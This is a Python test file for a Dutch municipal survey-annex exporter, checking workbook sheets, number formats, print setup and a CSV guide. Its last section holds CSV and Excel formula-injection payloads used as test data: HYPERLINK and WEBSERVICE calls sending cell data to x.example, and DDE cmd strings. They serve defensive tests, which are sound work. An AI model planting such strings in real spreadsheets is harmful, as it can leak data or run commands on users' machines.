"""The workbook for council staff and the guide to the CSV files, read back cell by cell."""

from __future__ import annotations

import csv
import html
import io
import re
import shutil
import zipfile

import pandas as pd
import pytest
from openpyxl import load_workbook

from ivb_analysis import export
from ivb_analysis.tables import AnnexTable, Column, format_cell, format_value

BANNER = "SYNTHETISCHE DEMODATA"
SOURCE = "Bron: Veiligheidsmonitor 2015, bewerking gemeente Proefstad"
METHOD = ["Gewogen uitkomsten met design-based standaardfouten.",
          "Toets op 5% met Benjamini-Hochberg-correctie."]


@pytest.fixture
def tables() -> list[AnnexTable]:
    wijken = pd.DataFrame({
        "wijk_naam": ["Noord", "Zuid"], "kind": ["percentage", "percentage"],
        "estimate": [23.4, 4.56], "ci_low": [20.0, 3.1], "ci_high": [27.0, 6.5],
        "n": [310, 1234], "p_adjusted": [0.0004, 0.0456],
        "judgement": ["slechter", "gelijk"], "remark": ["", "indicatief"],
    })
    wide_columns = (Column("wijk_naam", "Wijk", "text", 18),
                    Column("estimate", "Waarde 2015", "value", 11),
                    Column("ci_low", "Ondergrens 95%", "value", 11),
                    Column("ci_high", "Bovengrens 95%", "value", 11),
                    Column("n", "n", "integer", 8),
                    Column("p_adjusted", "p (gecorrigeerd)", "pvalue", 12),
                    Column("judgement", "T.o.v. rest gemeente", "text", 18),
                    Column("remark", "Opmerking", "text", 14),
                    Column("wijk_naam", "Wijk (herhaald)", "text", 18))
    cijfers = pd.DataFrame({"label": ["Rapportcijfer leefbaarheid"], "kind": ["rapportcijfer"],
                            "estimate": [7.44]})
    return [
        AnnexTable("kerncijfers", "Footprint-indicatoren voor heel Proefstad, 2015", cijfers,
                   (Column("label", "Indicator", "text", 30),
                    Column("estimate", "Waarde 2015", "value", 11)),
                   source=SOURCE, number=1),
        AnnexTable("wijk_overlast", "Overlast totaal per wijk, 2015 (met een titel die veel "
                   "langer is dan 31 tekens)", wijken, wide_columns, source=SOURCE,
                   note="Verschil getoetst op 5%.", number=2),
    ]


def _book(tables, **kwargs):
    data = export.workbook_bytes(tables, heading="Tabellen bij de bijlage 2015", **kwargs)
    return data, load_workbook(io.BytesIO(data))


def test_one_sheet_per_table_with_title_table_source_label_and_method_link(tables):
    _, book = _book(tables, banner=BANNER, method_note=METHOD)
    assert book.sheetnames == ["Inhoud", "T01 Kerncijfers", "T02 Overlast totaal wijk, 2015",
                               "Methode"]
    assert all(len(name) <= 31 for name in book.sheetnames)
    sheet = book["T02 Overlast totaal wijk, 2015"]
    assert sheet["A1"].value == ("Tabel 2. Overlast totaal per wijk, 2015 (met een titel die "
                                 "veel langer is dan 31 tekens)")
    assert sheet["A1"].font.bold
    assert sheet["A2"].value is None
    assert [c.value for c in sheet[3]][:3] == ["Wijk", "Waarde 2015", "Ondergrens 95%"]
    assert sheet.freeze_panes == "A4"
    # percentages are fractions with a percent format: Excel shows 23%, not 2340%
    assert sheet["A4"].value == "Noord" and sheet["B4"].value == pytest.approx(0.234)
    assert sheet["B4"].number_format == "0%" and sheet["B5"].number_format == "0.0%"
    assert sheet["B5"].value == pytest.approx(0.0456) and sheet["C5"].value == pytest.approx(0.031)
    assert sheet["E5"].value == 1234 and sheet["E5"].number_format == "#,##0"
    under = [sheet.cell(row=r, column=1).value for r in range(6, sheet.max_row + 1)]
    assert under == [None, "Verschil getoetst op 5%.", SOURCE,
                     f"{BANNER}: deze cijfers zijn verzonnen",
                     "Werkwijze: zie het werkblad Methode"]
    assert sheet["A9"].font.color.rgb.endswith("B2182B")
    assert sheet["A10"].hyperlink.location == "'Methode'!A1"
    first = book["T01 Kerncijfers"]
    assert first["A1"].value == "Tabel 1. Footprint-indicatoren voor heel Proefstad, 2015"
    assert first["B4"].value == pytest.approx(7.44) and first["B4"].number_format == "#,##0.0"


def test_the_method_note_is_on_one_sheet_only(tables):
    _, book = _book(tables, banner=BANNER, method_note=METHOD)
    method = book["Methode"]
    column = [c.value for c in method["A"]]
    assert column[0] == "Werkwijze — Tabellen bij de bijlage 2015"
    assert column[1] == f"{BANNER}: deze cijfers zijn verzonnen"
    assert column[2:] == [f"- {METHOD[0]}", f"- {METHOD[1]}"]
    for name in book.sheetnames[1:-1]:
        texts = [str(c.value) for row in book[name].iter_rows() for c in row if c.value]
        assert not any(METHOD[0] in t for t in texts), name
    assert [c.value for c in book["Inhoud"]["A"]][-1] == "Methode"
    _, without = _book(tables)
    assert "Methode" not in without.sheetnames


def test_p_values_have_one_format_the_annex_text(tables):
    _, book = _book(tables)
    sheet = book["T02 Overlast totaal wijk, 2015"]
    assert [c.value for c in sheet[3]][5] == "p (gecorrigeerd)"
    shown = tables[1].for_readers()["p (gecorrigeerd)"].tolist()
    assert [sheet["F4"].value, sheet["F5"].value] == shown == ["< 0,001", "0,046"]
    assert sheet["F4"].data_type == sheet["F5"].data_type == "s"
    assert sheet["F4"].number_format == sheet["F5"].number_format == "@"


def test_contents_sheet_links_to_every_table(tables):
    _, book = _book(tables, banner=BANNER)
    contents = book["Inhoud"]
    assert contents["A1"].value == "Tabellen bij de bijlage 2015"
    assert contents["A2"].value == f"{BANNER}: deze cijfers zijn verzonnen"
    rows = [[c.value for c in row] for row in contents.iter_rows(min_row=4, max_col=2)]
    assert rows == [["T01 Kerncijfers", "Tabel 1. Footprint-indicatoren voor heel Proefstad, 2015"],
                    ["T02 Overlast totaal wijk, 2015", tables[1].caption]]
    links = [contents.cell(row=r, column=1).hyperlink.location for r in (4, 5)]
    assert links == ["'T01 Kerncijfers'!A1", "'T02 Overlast totaal wijk, 2015'!A1"]


def test_print_setup_a4_fit_to_width_landscape_when_wide_and_header_repeated(tables):
    _, book = _book(tables)
    for name in book.sheetnames[1:]:
        sheet = book[name]
        assert sheet.page_setup.paperSize == 9  # A4
        assert sheet.sheet_properties.pageSetUpPr.fitToPage
        assert sheet.page_setup.fitToWidth == 1 and sheet.page_setup.fitToHeight == 0
        assert sheet.print_title_rows == "$3:$3"
    assert book["T01 Kerncijfers"].page_setup.orientation == "portrait"  # 41 characters wide
    assert book.worksheets[2].page_setup.orientation == "landscape"  # 129 characters wide


def test_workbook_bytes_are_stable(tables):
    first, _ = _book(tables, banner=BANNER, method_note=METHOD)
    second, _ = _book(tables, banner=BANNER, method_note=METHOD)
    assert first == second


def test_sheet_names_say_what_they_hold_and_are_short_and_unique():
    used = {"Inhoud"}
    table = AnnexTable("x", "X", pd.DataFrame({"a": [1]}), (Column("a", "A"),), number=3)
    assert export.sheet_name(table, used) == "T03 X"
    assert export.sheet_name(table, used) == "T03 X-2"
    unnumbered = AnnexTable("y", "Y", pd.DataFrame({"a": [1]}), (Column("a", "A"),))
    assert export.sheet_name(unnumbered, used, 7) == "T07 Y"
    titles = {"kerncijfers": "Footprint-indicatoren voor heel Hengelo, 2015",
              "wijk_rapportcijfer_leefbaarheid": "Rapportcijfer leefbaarheid per wijk, 2015",
              "wijk_fysieke_voorzieningen": "Fysieke voorzieningen per wijk, 2015",
              "items_sociale_cohesie": "Sociale cohesie: de stellingen, 2015",
              "trends": "Alle indicatoren voor heel Hengelo, 2012–2015",
              "onbekend": "Een titel: met [verboden] tekens/en heel veel woorden erachter"}
    names = [export.sheet_name(AnnexTable(k, t, pd.DataFrame({"a": [1]}), (Column("a", "A"),),
                                          number=n), used)
             for n, (k, t) in enumerate(titles.items(), start=1)]
    assert names == ["T01 Kerncijfers", "T02 Cijfer leefbaarheid wijk",
                     "T03 Fysieke voorzieningen wijk", "T04 Items sociale cohesie",
                     "T05 Trends alle indicatoren", "T06 Een titel"]
    assert all(len(n) <= 31 and not set("[]:*?/\\'") & set(n) for n in names)


def test_csv_guide_explains_every_column_in_dutch_and_carries_the_label(tmp_path, tables):
    path = export.write_csv_guide(tables, tmp_path, heading="Tabellen bij de bijlage 2015",
                                  banner=BANNER, workbook="tabellen_2015.xlsx")
    text = path.read_text(encoding="utf-8")
    assert path.name == "LEESMIJ.txt"
    assert text.startswith("Tabellen bij de bijlage 2015\n\nSYNTHETISCHE DEMODATA: deze cijfers")
    assert "  kerncijfers.csv    Tabel 1. Footprint-indicatoren" in text
    lines = text.splitlines()
    for column in ("wijk_naam", "estimate", "ci_low", "p_adjusted", "remark"):
        line = next(x for x in lines if x.startswith(f"  {column} "))
        assert "zie de bijlage" not in line, line
    assert next(x for x in lines if x.startswith("  p_adjusted ")).endswith(
        "significant als kleiner dan 0,05")


def test_column_descriptions_for_year_columns():
    assert export.column_description("estimate_2013") == (
        "gewogen uitkomst (percentages als 0-100) (meting 2013)")
    assert export.column_description("2015") == "uitkomst in 2015"
    assert export.column_description("p_adjusted_2015").startswith("p-waarde na Benjamini")
    assert export.column_description("onbekend") is None


# --- a real annex with hostile names: no formula anywhere, workbook = CSV = annex ----------------

WIJK_FORMULA = '=HYPERLINK(CONCAT("http://x.example/?",A1),"klik")'
WIJK_DDE = "+cmd|' /C calc'!A0"
WIJK_AT = "@SUM(1+1)*cmd|' /C calc'!A0"
WIJK_MINUS = "-2+3+cmd|' /C notepad'!A0"
OVERLEG_FORMULA = '=WEBSERVICE("http://x.example/?q="&A1)'
CRIME_FORMULA = "=1+1 Totaal misdrijven"
HOSTILE = (WIJK_FORMULA, WIJK_DDE, WIJK_AT, WIJK_MINUS, OVERLEG_FORMULA, CRIME_FORMULA)
YEAR = 2015


@pytest.fixture(scope="module")
def hostile_annex(tmp_path_factory):
    """The mini delivery with wijk names, a casework label and a crime label that a
    spreadsheet would run as formulas; the 2015 annex written (CSV, workbook, HTML)."""
    from ivb_analysis.annex import write_annex
    from ivb_analysis.config import load_settings
    from tests.conftest import ROOT

    tmp = tmp_path_factory.mktemp("formules")
    raw = tmp / "raw" / "mini"
    shutil.copytree(ROOT / "data" / "raw" / "mini", raw)
    for file, old, new in (("wijken_SYNTHETISCH.csv", ";Binnenstad", f";{WIJK_FORMULA}"),
                           ("wijken_SYNTHETISCH.csv", ";Hengelose Es", f";{WIJK_DDE}"),
                           ("wijken_SYNTHETISCH.csv", ";Noord", f";{WIJK_AT}"),
                           ("wijken_SYNTHETISCH.csv", ";Hasseler Es", f";{WIJK_MINUS}"),
                           ("veiligheidshuis_casuistiek_SYNTHETISCH.csv", ";Code Rood;",
                            f";{OVERLEG_FORMULA};"),
                           ("politie_47018NED_wijken_SYNTHETISCH.csv", '"Totaal misdrijven"',
                            f'"{CRIME_FORMULA}"')):
        path = raw / file
        text = path.read_text(encoding="utf-8")
        assert old in text, (file, old)
        path.write_text(text.replace(old, new), encoding="utf-8")
    settings = load_settings(raw, output_dir=tmp / "uit", processed_dir=tmp / "verwerkt")
    write_annex(settings, YEAR)
    return tmp / "uit" / str(YEAR)


def test_no_cell_of_the_workbook_is_a_formula(hostile_annex):
    book = load_workbook(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx")
    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == []
    texts = {c.value for c in cells if c.data_type == "s"}
    # the names are there, as text (a crime label only in the CSV: the police sheet shows the
    # total per wijk, the CSV every kind of crime)
    for name in (n for n in HOSTILE if n != CRIME_FORMULA):
        assert name in texts, name
    police_csv = (hostile_annex / "tables" / "politie.csv").read_text(encoding="utf-8")
    assert f"'{CRIME_FORMULA}" in police_csv and f",{CRIME_FORMULA}" not in police_csv
    with zipfile.ZipFile(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx") as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist()
                      if n.startswith("xl/worksheets/"))
    assert "<f>" not in xml and "<f " not in xml


def test_csv_text_cells_never_start_a_formula(hostile_annex):
    found = set()
    for path in sorted((hostile_annex / "tables").glob("*.csv")):
        with path.open(encoding="utf-8", newline="") as handle:
            rows = list(csv.reader(handle))
        for row in rows[1:]:
            for cell in row:
                try:
                    float(cell)
                    continue  # a number, e.g. -0.84
                except ValueError:
                    pass
                assert not cell.startswith(export.FORMULA_START), (path.name, cell)
                if cell.startswith("'"):
                    found.add(cell[1:])
    assert set(HOSTILE) <= found
    guide = (hostile_annex / "tables" / "LEESMIJ.txt").read_text(encoding="utf-8")
    assert "een enkel aanhalingsteken ervoor" in guide


def test_csv_neutralises_tab_and_carriage_return_too():
    frame = pd.DataFrame({"naam": ["\tx", "\ry", "ok", "a-b", "-", "@", "+1"], "getal": range(7)})
    lines = export.csv_text(frame).split("\n")[:-1]
    assert lines[1:] == ["'\tx,0", "'\ry,1", "ok,2", "a-b,3", "'-,4", "'@,5", "'+1,6"]


def _sheet_rows(sheet):
    headers = [c.value for c in sheet[3]]
    rows = []
    for row in sheet.iter_rows(min_row=4):
        if row[0].value is None:
            break
        rows.append(dict(zip(headers, row, strict=False)))
    return rows


def test_workbook_values_equal_the_csv_and_the_annex_table(hostile_annex):
    """Opened as a council staffer would: every sheet says what it holds; percentages are
    fractions with a percent format; the numbers are the CSV's; formatted, they read as in
    the annex's table; p-values read exactly as in the annex."""
    book = load_workbook(hostile_annex / "tables" / f"tabellen_{YEAR}.xlsx")
    assert book.sheetnames[0] == "Inhoud" and book.sheetnames[-1] == "Methode"
    assert all(re.fullmatch(r"T\d\d \S.{2,26}", n) for n in book.sheetnames[1:-1])
    assert "T01 Kerncijfers" in book.sheetnames
    page = (hostile_annex / "bijlage.html").read_text(encoding="utf-8")
    compared = 0
    for key, sheet_title in (("kerncijfers", "T01 Kerncijfers"),
                             ("wijk_overlast_totaal", "Overlast totaal per wijk"),
                             ("wijk_rapportcijfer_leefbaarheid", "Cijfer leefbaarheid wijk")):
        sheet = next(book[n] for n in book.sheetnames if n.endswith(sheet_title))
        data = pd.read_csv(hostile_annex / "tables" / f"{key}.csv")
        table = page[page.index(f'id="T_{key}"'):]
        table = table[:table.index("</table>")]
        html_rows = [[html.unescape(c) for c in re.findall(r"<td[^>]*>([^<]*)</td>", r)]
                     for r in re.findall(r"<tr[^>]*>(.*?)</tr>", table, flags=re.S)[1:]]
        rows = _sheet_rows(sheet)
        assert len(rows) == len(data) == len(html_rows), key
        for row, (_, tidy), cells in zip(rows, data.iterrows(), html_rows, strict=True):
            value = row[f"Waarde {YEAR}"]
            percentage = tidy["kind"] == "percentage"
            if pd.isna(tidy["estimate"]):
                continue
            expected = tidy["estimate"] / 100 if percentage else tidy["estimate"]
            assert value.value == pytest.approx(expected, abs=1e-12), (key, tidy["label"])
            assert value.number_format == ("0%" if tidy["estimate"] >= 9.95 else "0.0%") \
                if percentage else value.number_format == "#,##0.0"
            shown = format_value(value.value * (100 if percentage else 1), tidy["kind"])
            assert shown in cells, (key, shown, cells)
            if "p (gecorrigeerd)" in row:
                assert row["p (gecorrigeerd)"].value == format_cell(tidy["p_adjusted"], "pvalue")
                assert row["p (gecorrigeerd)"].value in cells
            compared += 1
    assert compared >= 15
